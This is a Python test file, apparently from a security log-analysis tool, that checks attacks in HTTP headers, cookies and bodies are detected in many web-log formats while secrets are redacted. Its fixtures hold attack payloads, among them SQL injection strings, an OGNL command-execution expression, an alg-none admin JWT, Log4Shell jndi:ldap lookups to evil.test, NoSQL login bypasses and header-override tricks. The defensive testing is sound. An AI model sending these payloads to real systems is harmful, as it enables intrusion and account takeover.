"""Headers, cookies and bodies of requests read alike in every form of log that holds them, and no secret in them is kept."""
import json
import os
import subprocess
import sys
from urllib.parse import quote

import pytest

from aiscore_contract.event import Event
from aiscore_contract.forms.weblog import WebRequest, is_unsigned, request_of_record, telling_headers
from aiscore_contract.limits import TEXT_MAX_CHARS
from aiscore_contract.redact import redact_event
from aiscore_model.normalise import normalise
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.pack import default_pack_path, load_pack

AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
UNSIGNED = "eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9."
SIGNED = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2lnbmF0dXJl"
HARMLESS = {"Host": "shop.example", "User-Agent": AGENT, "Cookie": "lang=en; sid=8f14e45fceea167a5a36dedd4bea2543", "Accept": "*/*",
            "Authorization": f"Bearer {SIGNED}", "Content-Type": "application/json", "X-Forwarded-Host": "www.shop.example", "X-Original-URL": "/product?id=3"}
ATTACKS = {
    "cookie": ({"Cookie": "sid=8f14e45fceea167a; lang=x' UNION SELECT password FROM users--"}, "cookie lang equals x quote union select password from users comment"),
    "page behind the page": ({"X-Original-URL": "/admin/delete"}, "x original url admin delete"),
    "other site": ({"X-Forwarded-Host": "evil.test"}, "x forwarded host"),
    "unsigned token": ({"Authorization": f"Bearer {UNSIGNED}"}, "jwt alg none"),
    "unsigned cookie": ({"Cookie": f"session={UNSIGNED}"}, "jwt alg none"),
    "expression": ({"Content-Type": "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}"}, "content type percent brace paren sharp cmd"),
    "skipped middleware": ({"X-Middleware-Subrequest": "middleware:middleware"}, "x middleware subrequest"),
}


def _pairs(headers):
    return [{"name": name, "value": value} for name, value in headers.items()]


def _low(headers):
    return {name.lower(): value for name, value in headers.items()}


def _lists(headers):
    return {name: [value] for name, value in headers.items()}


FORMS = {
    "caddy": lambda h: {"level": "info", "ts": 1763633472.1, "logger": "http.log.access", "msg": "handled request", "status": 200, "size": 120, "request": {
        "remote_ip": "192.0.2.7", "proto": "HTTP/2.0", "method": "GET", "host": "shop.example", "uri": "/product?id=3", "headers": _lists(h)}},
    "pino": lambda h: {"level": 30, "time": 1763633472100, "pid": 1, "hostname": "web1", "req": {"method": "GET", "url": "/product?id=3", "headers": _low(h)},
                       "res": {"statusCode": 200}, "msg": "request completed"},
    "kong": lambda h: {"request": {"size": "75", "uri": "/product?id=3", "querystring": {"id": "3"}, "method": "GET", "headers": _low(h)}, "response": {
        "status": 200, "size": "434", "headers": {}}, "client_ip": "192.0.2.7"},
    "browser's archive": lambda h: {"time": 5, "request": {"method": "GET", "url": "https://shop.example/product?id=3", "headers": _pairs(h)}, "response": {"status": 200}},
    "aws waf": lambda h: {"webaclId": "x", "terminatingRuleId": "Default_Action", "action": "ALLOW", "httpRequest": {
        "clientIp": "192.0.2.7", "headers": _pairs(h), "uri": "/product", "args": "id=3", "httpMethod": "GET"}},
    "zeek": lambda h: {"ts": 1763633472.1, "uid": "CabX1", "id.orig_h": "192.0.2.7", "id.orig_p": 4000, "id.resp_h": "203.0.113.9", "id.resp_p": 80, "method": "GET",
                       "host": "shop.example", "uri": "/product?id=3", "status_code": 200, "client_header_names": [name.upper() for name in h],
                       "client_header_values": list(h.values())},
    "suricata": lambda h: {"timestamp": "2026-11-20T10:11:12.1+0000", "flow_id": 1, "event_type": "http", "src_ip": "192.0.2.7", "src_port": 4000, "dest_ip": "203.0.113.9",
                           "dest_port": 80, "http": {"hostname": "shop.example", "url": "/product?id=3", "http_method": "GET", "status": 200, "request_headers": _pairs(h)}},
    "cloudflare": lambda h: {"ClientIP": "192.0.2.7", "ClientRequestHost": "shop.example", "ClientRequestMethod": "GET", "ClientRequestURI": "/product?id=3",
                             "EdgeResponseStatus": 200, "RequestHeaders": _low(h)},
    "envoy": lambda h: {"method": "GET", "path": "/product?id=3", "response_code": 200, "authority": "shop.example", "bytes_sent": 9,
                        **{name.lower().replace("-", "_"): value for name, value in h.items() if name != "Host"}},
    "function": lambda h: {"path": "/product", "httpMethod": "GET", "headers": h, "queryStringParameters": {"id": "3"}, "requestContext": {
        "identity": {"sourceIp": "192.0.2.7"}}, "body": None},
    "function, second form": lambda h: {"version": "2.0", "rawPath": "/product", "rawQueryString": "id=3", "headers": _low(h), "requestContext": {
        "http": {"method": "GET", "sourceIp": "192.0.2.7"}}},
    "common schema": lambda h: {"http": {"request": {"method": "GET", "headers": _low(h)}, "response": {"status_code": 200}}, "url": {
        "original": "/product?id=3", "domain": "shop.example"}, "source": {"ip": "192.0.2.7"}},
    "guard": lambda h: {"transaction": {"client_ip": "192.0.2.7", "request": {"method": "GET", "uri": "/product?id=3", "headers": h}, "response": {"http_code": 200}, "messages": []}},
    "guard, older": lambda h: {"transaction": {"remote_address": "192.0.2.7"}, "request": {"request_line": "GET /product?id=3 HTTP/1.1", "headers": h}, "response": {
        "status": 200}, "audit_data": {}},
    "traefik": lambda h: {"ClientHost": "192.0.2.7", "DownstreamStatus": 200, "RequestMethod": "GET", "RequestPath": "/product?id=3", "RequestHost": "shop.example",
                          **{f"request_{name.title()}": value for name, value in h.items() if name != "Host"}},
    "nginx": lambda h: {"remote_addr": "192.0.2.7", "request_method": "GET", "request_uri": "/product?id=3", "status": 200, "host": "shop.example",
                        **{f"http_{name.lower().replace('-', '_')}": value for name, value in h.items() if name != "Host"}},
    "akamai": lambda h: {"attackData": {"clientIP": "192.0.2.7"}, "httpMessage": {"method": "GET", "host": "shop.example", "path": "/product", "query": "id=3", "status": "200",
                                                                              "requestHeaders": quote("".join(f"{name}: {value}\r\n" for name, value in h.items()))}},
    "cloudfront": lambda h: {"c-ip": "192.0.2.7", "sc-status": "200", "cs-method": "GET", "cs-uri-stem": "/product", "cs-uri-query": "id=3", "cs-host": "shop.example",
                             "cs-headers": quote("\n".join(f"{name}:{value}" for name, value in h.items()))},
    "winston": lambda h: {"level": "info", "message": "GET /product", "meta": {"req": {"url": "/product?id=3", "method": "GET", "headers": _low(h)}, "res": {"statusCode": 200}}},
    "gin": lambda h: {"level": "INFO", "msg": "Incoming request", "request": {"method": "GET", "host": "shop.example", "path": "/product", "query": "id=3", "ip": "192.0.2.7:4000",
                                                                            "header": _lists(h)}, "response": {"status": 200}},
    "guard's pairs": lambda h: 'ASM:unit_hostname="f5",policy_name="/Common/p",violations="Attack signature detected",ip_client="192.0.2.7",method="GET",uri="/product",request="'
                               + "".join((r"GET /product?id=3 HTTP/1.1\r\n", *(rf"{name}: {value}\r\n" for name, value in h.items()), r"\r\n", '"')),
    "pairs": lambda h: 'remote_addr="192.0.2.7" method="GET" uri="/product?id=3" status="200" hostname="shop.example" ' + " ".join(
        f'{name.lower().replace("-", "_")}="{value}"' for name, value in h.items() if name != "Host"),
    "raw": lambda h: "GET /product?id=3 HTTP/1.1\r\n" + "".join(f"{name}: {value}\r\n" for name, value in h.items()) + "\r\n",
}


@pytest.fixture(scope="module")
def engine():
    return RuleEngine(load_pack(default_pack_path()))


def _line(form, headers):
    made = FORMS[form]({**HARMLESS, **headers})
    return made if isinstance(made, str) else json.dumps(made)


def _read(line):
    return normalise(Event(text=line))


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("form", FORMS)
def test_an_attack_in_a_header_is_told_in_every_form_and_a_harmless_header_in_none(form, attack):
    headers, words = ATTACKS[attack]
    told = _read(_line(form, headers))
    assert told.kind in ("web", "keyvalue") and words in told.template
    assert "body" not in _read(_line(form, {})).template


@pytest.mark.parametrize("form", FORMS)
def test_no_cookie_and_no_token_that_is_a_secret_is_kept(form):
    for headers in ({}, *(headers for headers, _ in ATTACKS.values())):
        told = _read(_line(form, headers))
        kept = " ".join((told.template, *told.focus))
        assert "8f14e45fceea" not in kept and "eyJ" not in kept


@pytest.mark.parametrize("attack", ["cookie", "expression"])
@pytest.mark.parametrize("form", FORMS)
def test_rules_hit_an_attack_in_a_header_in_every_form(engine, form, attack):
    hits = set(engine.judge(_line(form, ATTACKS[attack][0]), "").rule_ids)
    assert hits and set(engine.judge(_line("raw", ATTACKS[attack][0]), "").rule_ids) <= hits
    assert not engine.judge(_line(form, {}), "").rule_ids


TWICE = {
    "raw": lambda name, values: "GET /product?id=3 HTTP/1.1\r\nHost: shop.example\r\n" + "".join(f"{name}: {value}\r\n" for value in values) + "\r\n",
    "list": lambda name, values: json.dumps({"request": {"method": "GET", "url": "/product?id=3", "headers": [{"name": name, "value": value} for value in values]},
                                             "response": {"status": 200}}),
    "table of lists": lambda name, values: json.dumps({"request": {"method": "GET", "uri": "/product?id=3", "headers": {name: list(values)}}, "status": 200, "size": 9}),
}


@pytest.mark.parametrize("name, harmless, odd, words", [
    ("X-Original-URL", "/product?id=3", "/admin/users", "x original url admin users"), ("Cookie", "lang=en", "lang=x' union select 1--", "lang equals x quote union select")])
@pytest.mark.parametrize("form", TWICE)
def test_a_header_that_was_sent_twice_hides_nothing_whichever_comes_first(engine, form, name, harmless, odd, words):
    for values in ((harmless, odd), (odd, harmless)):
        line = TWICE[form](name, values)
        assert words in _read(line).template and engine.judge(line, "").rule_ids


@pytest.mark.parametrize("form", FORMS)
def test_a_secret_with_an_odd_sign_beside_it_is_not_kept(form):
    told = _read(_line(form, {"Authorization": "Bearer hunterabc4444<", "Cookie": "lang=en; token=hunterabc4444`"}))
    assert "hunter" not in " ".join((told.template, *told.focus))


def test_a_signed_token_hides_no_unsigned_one_behind_it():
    assert is_unsigned(f"id={SIGNED}; session={UNSIGNED}")


def test_what_stands_before_an_attack_in_a_header_hides_nothing_of_it():
    for name, before in (("x-custom", "a" * 3_000), ("cookie", "lang=" + "a" * 3_000), ("x-custom", "%41" * 900)):
        request = WebRequest("GET", "/", headers=((name, f"{before}<script>alert(1)</script>"),))
        assert "<script>alert(1)</script>" in telling_headers(request)[0][1]


def test_cookies_without_end_are_few_parameters_and_none_is_lost():
    told = telling_headers(WebRequest("GET", "/", headers=(("cookie", "a='; " * 900 + "b=${jndi:ldap://e}"),)))
    assert len(told) < 60 and "${jndi" in told[-1][1]


BODIES = {
    "archive's text": {"request": {"method": "POST", "url": "/a", "postData": {"mimeType": "application/x-www-form-urlencoded", "text": "q=%27+or+1%3D1--"}}, "response": {"status": 200}},
    "archive's parameters": {"request": {"method": "POST", "url": "/a", "postData": {"mimeType": "application/x-www-form-urlencoded", "params": [
        {"name": "q", "value": "' or 1=1--"}]}}, "response": {"status": 200}},
    "base64": {"rawPath": "/a", "requestContext": {"http": {"method": "POST"}}, "body": "cT0nIG9yIDE9MS0t", "isBase64Encoded": True},
    "guard": {"transaction": {"request": {"method": "POST", "uri": "/a", "body": "q=%27+or+1%3D1--"}}},
    "guard, older": {"request": {"request_line": "POST /a HTTP/1.1", "body": ["q=%27+or+", "1%3D1--"]}, "transaction": {}},
    "common schema": {"http": {"request": {"method": "POST", "body": {"content": "q=' or 1=1--", "bytes": 12}}}, "url": {"path": "/a"}},
    "row": "2026-11-20 10:11:12,192.0.2.7,POST,/a,\"q=' or 1=1--\",200",
}


@pytest.mark.parametrize("form", BODIES)
def test_a_body_is_parameters_in_every_form(engine, form):
    line = BODIES[form] if isinstance(BODIES[form], str) else json.dumps(BODIES[form])
    assert "http post path a body q quote or num equals num comment" in _read(line).template
    assert read_facts(line).fields["cs-method"] == "POST"
    assert engine.judge(line, "").rule_ids


@pytest.mark.parametrize("body", [{"username": {"$ne": None}, "password": {"$ne": None}}, '{"username":{"$ne":null},"password":{"$ne":null}}'])
def test_a_body_that_a_framework_took_apart_reads_as_the_text_that_was_sent(body):
    told = _read(json.dumps({"level": 30, "req": {"method": "POST", "url": "/login", "body": body}, "res": {"statusCode": 200}}))
    assert "body brace doublequote username doublequote brace doublequote dollar ne" in told.template


def test_a_password_in_a_body_is_not_kept():
    told = _read(json.dumps({"req": {"method": "POST", "url": "/login", "body": {"user": "ann", "password": "hunter2"}}, "res": {"statusCode": 200}}))
    assert "hunter" not in told.template + " ".join(told.focus)


def test_headers_are_told_in_one_order_in_every_process():
    code = ("from aiscore_contract.forms.weblog import *\nprint(request_of_record({'method': 'GET', 'uri': '/', 'http_cookie': \"a='\", 'http_x_forwarded_host': 'b',"
            " 'http_authorization': 'c', 'http_origin': 'd', 'http_content_type': 'e', 'http_x_host': 'f'}).headers)")
    told = {subprocess.run([sys.executable, "-c", code], env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True, text=True, check=True).stdout for seed in "123"}
    assert len(told) == 1 and "cookie" in told.pop()


def test_a_header_is_no_member_of_the_event():
    record = FORMS["pino"]({**HARMLESS, "Channel": "Security", "EventID": "1102", "X-Original-URL": "/x"})
    assert read_facts(json.dumps(record)).family == "json"


@pytest.mark.parametrize("value", [None, 7, [], {}, [[]], [{}], {"a": {"b": []}}, "x" * 100_000, "eyJ" * 9_000, "a=" * 9_000, "[" * 3_000, ["x"] * 9_000, {"name": "x"}])
def test_no_type_and_no_size_raises(value):
    for name in ("headers", "cookies", "cookie", "body", "postData", "query", "queryStringParameters", "requestContext", "transaction", "url", "http", "client_header_names"):
        for record in ({"method": "GET", "uri": "/a", "status": 200, name: value}, {"req": {"method": "GET", "url": "/a", name: value}, "res": value},
                       {"transaction": {"request": {"method": "GET", "uri": "/a", name: value}, name: value}}, {"http": {"request": {"method": "GET", name: value}}, "url": {"path": "/a"},
                                                                                                              name: value}):
            request = request_of_record(record)
            if request is not None:
                telling_headers(request)
            _read(json.dumps(record)[:TEXT_MAX_CHARS])


def test_a_token_that_says_nothing_of_its_signature_is_not_unsigned():
    assert not any(map(is_unsigned, ("", "eyJ", "eyJ.eyJ.", f"Bearer {SIGNED}", "eyJbbbbbbbb.eyJ.", "a" * 50_000 + UNSIGNED, "eyJ" * 20_000)))
    assert is_unsigned(UNSIGNED)


def test_a_proxy_that_names_the_page_or_the_site_that_was_asked_for_sends_nobody_elsewhere():
    for headers in ((("x-original-url", "https://shop.example/a?b=1"),), (("x-forwarded-host", "www.shop.example"),), (("x-rewrite-url", "/a"),)):
        assert telling_headers(WebRequest("GET", "/a?b=1", host="shop.example", headers=headers)) == []
    assert telling_headers(WebRequest("GET", "/a", host="app.prod.svc", headers=(("x-forwarded-host", "shop.example"),))) == []


WORDS = ("{core} Login failed: 'admin' (Remote IP: '192.0.2.7')", "2026-11-20T10:11:12+00:00 {core} Login failed: admin (Remote IP: 192.0.2.7)",
         "Nov 20 10:11:12 cloud ownCloud[123]: {core} Login failed: 'admin' (Remote IP: '192.0.2.7')",
         json.dumps({"reqId": "kQ1", "level": 2, "remoteAddr": "192.0.2.7", "user": "--", "app": "core", "method": "POST", "url": "/login", "userAgent": AGENT,
                     "message": "Login failed: admin (Remote IP: 192.0.2.7)"}))


@pytest.mark.parametrize("line", WORDS)
def test_what_an_application_says_of_a_request_is_what_happened(line):
    told = _read(line)
    assert told.template.startswith("login failed cloud files administrator from publicip")
    assert (dict(told.entities)["user"], dict(told.entities)["src"], told.action) == ("admin", "192.0.2.7", "login failed")


def test_an_applications_message_about_a_request_comes_before_the_request():
    told = _read(json.dumps({"reqId": "k", "remoteAddr": "192.0.2.7", "user": "ann", "app": "admin_audit", "method": "POST", "url": "/ocs/v2.php/cloud/users",
                             "message": 'User created: "backdoor"'}))
    assert told.template.startswith("user created backdoor http post") and dict(told.entities)["user"] == "ann"


@pytest.mark.parametrize("line", ["{core} login failed", "{ login failed for admin }", '{"login failed"', "{'act': 'login failed'}", '{"msg": ["login failed"', "{{ login failed",
                                  '{"message": } login failed', '{core} login failed "a": "b"'])
def test_a_brace_alone_makes_no_object_of_words(line):
    assert "login failed" in _read(line).template


@pytest.mark.parametrize("first", ['"message": "x"', '"user": {"type": "Root"}', '"resources": [{"a": 1}]', '"user": null'])
def test_an_object_that_was_cut_off_is_one_whatever_it_begins_with(first):
    told = _read("{" + first + ', "eventName": "DeleteTrail", "sourceIPAddress": "45.9.148.10", "requestParameters": {"name": "a')
    assert told.action == "delete trail" and dict(told.entities)["src"] == "45.9.148.10"


@pytest.mark.parametrize("line", ['{"a": {}, "b": null, "words": ""}x', "[\"x\"]", "<a></a>", "{\"id\": null, \"x\": []}", '{"id": "7"}'])
def test_a_line_with_words_has_a_template(line):
    assert _read(line).template


def test_a_guard_tells_any_method_and_what_it_warns_of_wherever_its_messages_stand():
    transaction = {"request": {"method": "BREW", "uri": "/a", "headers": {}}, "response": {"status": 401}}
    for record in ({"transaction": {**transaction, "messages": [{"message": "SQL attack"}]}}, {"transaction": transaction, "messages": [{"message": "SQL attack"}, 7]}):
        assert _read(json.dumps(record)).template == "http request path a status client error unauthorized agent none warning sql attack"


def test_who_asks_is_no_part_of_where():
    told = _read("203.0.113.9 - - [10/Oct/2031:13:55:36 +0000] \"GET http://shop.example:x@evil.test/a HTTP/1.1\" 200 26")
    assert dict(told.entities)["domain"] == "evil.test"


@pytest.mark.parametrize("behind", ["token=hunterabc4444 https://shop.example/", "token=hunterabc4444", "token=hunterabc4444 - shop.example", "token=hunterabc4444;+x=<script> https://shop.example/"])
def test_a_cookie_in_a_row_of_iis_is_none_of_its_other_columns(behind):
    told = _read(f"2031-03-01 10:11:12 10.0.0.1 GET /a x=1 443 - 203.0.113.9 {AGENT.replace(' ', '+')} {behind} 200 0 0 12")
    assert "hunter" not in " ".join((told.template, *told.focus)) and "referred odd token" not in told.template
    assert ("<script>" in behind) == ("script" in told.template)


def test_who_asked_is_not_who_he_says_he_is():
    for own in ("remote_address", "remoteAddress", "cIP", "client_ip"):
        told = _read(json.dumps({"method": "GET", "uri": "/a", "status": 200, "http_x_forwarded_for": "10.0.0.1", own: "203.0.113.9"}))
        assert dict(told.entities)["src"] == "203.0.113.9"


@pytest.mark.parametrize("attack", ["unsigned token", "unsigned cookie"])
@pytest.mark.parametrize("form", FORMS)
def test_a_token_that_nobody_signed_says_so_without_its_content(engine, form, attack):
    line = _line(form, ATTACKS[attack][0])
    plain = redact_event(line)
    assert UNSIGNED not in plain and _read(plain).template == _read(line).template
    assert engine.judge(plain, "").rule_ids == engine.judge(line, "").rule_ids


def test_what_a_guard_keeps_of_a_request_without_a_page_is_told():
    told = _read(json.dumps({"transaction": {"client_ip": "203.0.113.9", "request": {"method": "GET", "headers": {"user-agent": "sqlmap/1.7"}}, "messages": [{"message": "Invalid URI"}]}}))
    assert told.kind == "web" and "agent attack tool sqlmap" in told.template and "warning invalid uri" in told.template


@pytest.mark.parametrize("line", [
    "{{core}} Login failed: '{}' (Remote IP: '203.0.113.9')", "[2031-03-01 10:11:12] production.WARNING: Login failed: '{}' (Remote IP: '203.0.113.9')",
    "2031-03-01 10:11:12.123 INFO 1 --- [main] o.s.AuditListener : Authentication event AuthenticationFailureX: {}; details: W [RemoteIpAddress=203.0.113.9]"])
def test_a_name_that_is_an_attack_stays_in_sight(line):
    told = _read(line.format("${jndi:ldap://evil.test/a}"))
    assert told.action == "login failed" and "jndi ldap" in told.template and "jndi:ldap" in " ".join(told.focus)
    assert not _read(line.format("ann")).focus


def test_what_a_message_says_of_an_address_is_not_where_it_came_from():
    told = _read(json.dumps({"method": "POST", "url": "/chat", "remoteAddr": "203.0.113.9", "message": "Login failed: 'bob' (Remote IP: '10.0.0.1')"}))
    assert dict(told.entities)["src"] == "203.0.113.9"
